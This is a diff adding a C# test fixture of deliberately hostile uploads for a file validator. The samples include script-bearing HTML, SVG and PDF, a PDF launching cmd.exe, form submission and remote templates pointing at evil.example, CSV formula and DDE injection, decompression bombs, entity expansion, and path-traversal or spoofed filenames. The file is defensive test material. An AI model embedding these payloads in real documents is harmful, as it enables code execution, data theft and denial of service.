@@ -1,0 +1,100 @@
+using System.Text;
+using PragueProcess.Model.Entities;
+using static PragueProcess.Tests.Files.SampleFiles;
+
+namespace PragueProcess.Tests.Files;
+
+/// <summary>Files that nobody may store: each is named by what is wrong with it.</summary>
+internal static class HostileFiles
+{
+    private const string Page = "<!doctype html><script>alert(1)</script>";
+    private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
+    private const string Script = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>";
+    private const int Bomb = 120 * 1024 * 1024;
+
+    private static readonly byte[] Archive = Zip([new("a.txt", "a")]);
+
+    public static IReadOnlyDictionary<string, (string Name, Func<byte[]> Bytes)> All { get; } = new Dictionary<string, (string, Func<byte[]>)>
+    {
+        ["a picture that runs"] = ("a.svg", () => Text(Svg)),
+        ["a page"] = ("a.html", () => Text(Page)),
+        ["a program"] = ("a.exe", () => Text("MZ")),
+        ["a document with macros"] = ("a.docm", () => Zip(OpenXml(FileType.Docx))),
+        ["an archive"] = ("a.zip", () => Archive),
+        ["no extension"] = ("README", () => Text("a,b")),
+        ["nothing"] = ("a.pdf", () => []),
+        ["a page called PDF"] = ("a.pdf", () => Text(Page)),
+        ["a picture called PDF"] = ("a.pdf", () => Png()),
+        ["a PDF called picture"] = ("a.png", () => Pdf("a")),
+        ["a PNG called JPEG"] = ("a.jpg", () => Png()),
+        ["a PDF called DOCX"] = ("a.docx", () => Pdf("a")),
+        ["an archive called DOCX"] = ("a.docx", () => Archive),
+        ["a DOCX called XLSX"] = ("a.xlsx", () => Zip(OpenXml(FileType.Docx))),
+        ["a DOCX called ODT"] = ("a.odt", () => Zip(OpenXml(FileType.Docx))),
+        ["an ODT called ODS"] = ("a.ods", () => Zip(OpenDocument(FileType.Odt))),
+        ["a PDF and an archive"] = ("a.pdf", () => [.. Pdf("a"), .. Archive]),
+        ["a PDF in the comment of an archive"] = ("a.pdf", () => [.. Pdf("a")[..^6], .. Archive[..^2], 6, 0, .. "%%EOF\n"u8]),
+        ["a PDF behind something"] = ("a.pdf", () => [.. "GIF89a"u8, .. Pdf("a")]),
+        ["a PDF that begins a page"] = ("a.pdf", () => Text(Encoding.Latin1.GetString(Pdf("a")).Replace("%PDF-1.7\n", $"%PDF-1.7\n%{Page}\n", StringComparison.Ordinal))),
+        ["a PDF without its end"] = ("a.pdf", () => Pdf("a")[..^20]),
+        ["a PDF that is none behind its first line"] = ("a.pdf", () => Text("%PDF-1.7\nnothing\n%%EOF\n")),
+        ["a PDF with a script"] = ("a.pdf", () => Pdf("a", Script)),
+        ["a PDF with a script under another spelling"] = ("a.pdf", () => Pdf("a", Script.Replace("JavaScript", "J#61vaScr#69pt", StringComparison.Ordinal))),
+        ["a PDF with a packed script"] = ("a.pdf", () => PackedPdf($"<</Type/Catalog/Pages 2 0 R{Script}>>")),
+        ["a PDF that starts a program"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/Launch/F(cmd.exe)>>")),
+        ["a PDF with an attachment"] = ("a.pdf", () => Pdf("a", "/Names<</EmbeddedFiles 5 0 R>>")),
+        ["a PDF with a form of XML"] = ("a.pdf", () => Pdf("a", "/AcroForm<</XFA 5 0 R>>")),
+        ["a PDF that sends what is typed"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/SubmitForm/F(http://evil.example)>>")),
+        ["a PDF that is locked"] = ("a.pdf", () => Pdf("a", "", "/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>")),
+        ["a PDF that unpacks to too much"] = ("a.pdf", () => PackedPdf("<</Type/Catalog/Pages 2 0 R>>", Bomb)),
+        ["a DOCX that unpacks to too much"] = ("a.docx", () => Zip([.. OpenXml(FileType.Docx), new("big.xml", new string(' ', Bomb))])),
+        ["a DOCX of too many parts"] = ("a.docx", () => Zip([.. OpenXml(FileType.Docx), .. Enumerable.Range(0, 6000).Select(part => new KeyValuePair<string, string>($"{part}.xml", ""))])),
+        ["a DOCX with a way out"] = ("a.docx", () => Docx("../../evil.xml", "<a/>")),
+        ["a DOCX with a path"] = ("a.docx", () => Docx("/etc/evil.xml", "<a/>")),
+        ["a DOCX with a part twice"] = ("a.docx", () => Docx("MAIN.xml", "<a/>")),
+        ["a DOCX behind something"] = ("a.docx", () => [.. "#!/bin/sh\n"u8, .. Zip(OpenXml(FileType.Docx))]),
+        ["a DOCX before something"] = ("a.docx", () => [.. Zip(OpenXml(FileType.Docx)), .. Text(Page)]),
+        ["a DOCX with macros within"] = ("a.docx", () => Docx("word/vbaProject.bin", "x")),
+        ["a DOCX that says it has macros"] = ("a.docx", () => Zip(Changed(OpenXml(FileType.Docx), "[Content_Types].xml", "<Override", "<Default Extension=\"a\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override"))),
+        ["a DOCX with a template elsewhere"] = ("a.docx", () => Docx("word/_rels/settings.xml.rels", Links("attachedTemplate", "https://evil.example/a.dotm", "External"))),
+        ["a DOCX with a picture elsewhere"] = ("a.docx", () => Docx("word/_rels/document.xml.rels", Links("image", "https://evil.example/a.png", "External"))),
+        ["a DOCX with a program"] = ("a.docx", () => Docx("word/embeddings/a.exe", "MZ")),
+        ["a DOCX with entities that multiply"] = ("a.docx", () => Docx("word/a.xml", "<!DOCTYPE a [<!ENTITY b \"bb\">]><a>&b;</a>")),
+        ["a DOCX that starts a program"] = ("a.docx", () => Docx("word/a.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
+        ["an ODT with macros"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("Basic/Standard/Module1.xml", "<a/>")])),
+        ["an ODT that calls a macro"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("styles.xml", "<a href=\"vnd.sun.star.script:a\"/>")])),
+        ["an ODT that is locked"] = ("a.odt", () => Zip(Changed(OpenDocument(FileType.Odt), "META-INF/manifest.xml", "<manifest/>", "<manifest><encryption-data/></manifest>"))),
+        ["a table that is a page"] = ("a.csv", () => Text(Page)),
+        ["a table of bytes"] = ("a.csv", () => [1, 2, 0, 3]),
+        ["a table that is no UTF-8"] = ("a.csv", () => [(byte)'a', 0xFF, 0xFE]),
+        ["a table that computes"] = ("a.csv", () => Text("a;b\n1;\"=HYPERLINK(\"\"http://evil.example\"\")\"\n")),
+        ["a table that starts a program"] = ("a.csv", () => Text("a,b\n-2+3+cmd|' /C calc'!A0,1\n")),
+        ["a table that reads backwards"] = ("a.csv", () => Text("a,b\n\u202Eevil,1\n")),
+        ["a PNG and an archive"] = ("a.png", () => [.. Png(), .. Archive]),
+        ["a PNG with a page in it"] = ("a.png", () => Png(comment: Page)),
+        ["a PNG of too many pixels"] = ("a.png", () => Png(width: 1_000_000_000)),
+        ["half a PNG"] = ("a.png", () => Png()[..^8]),
+        ["a JPEG and an archive"] = ("a.jpg", () => [.. Jpeg(), .. Archive[..^2], 2, 0, 0xFF, 0xD9]),
+        ["a JPEG without its end"] = ("a.jpg", () => Jpeg()[..^2]),
+        ["a WebP that is longer than it says"] = ("a.webp", () => [.. WebP(), 0, 0]),
+        ["a name that leads up"] = ("../../etc/passwd.pdf", () => Pdf("a")),
+        ["a name that leads up on Windows"] = ("..\\..\\boot.pdf", () => Pdf("a")),
+        ["a name of a disk"] = ("C:a.pdf", () => Pdf("a")),
+        ["a name that reads backwards"] = ("exe\u202Egpj.pdf", () => Pdf("a")),
+        ["a name with something unseen"] = ("a\u200B.pdf", () => Pdf("a")),
+        ["a name of a device"] = ("con.pdf", () => Pdf("a")),
+        ["a name of nothing but its type"] = (".pdf", () => Pdf("a")),
+        ["a name that is too long"] = ($"{new string('a', 200)}.pdf", () => Pdf("a")),
+        ["a name with another line"] = ("a\u0085b.pdf", () => Pdf("a")),
+    };
+
+    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);
+
+    private static byte[] Docx(string part, string text) => Zip([.. OpenXml(FileType.Docx), new(part, text)]);
+
+    private static Dictionary<string, string> Changed(Dictionary<string, string> parts, string part, string old, string other)
+    {
+        parts[part] = parts[part].Replace(old, other, StringComparison.Ordinal);
+        return parts;
+    }
+}
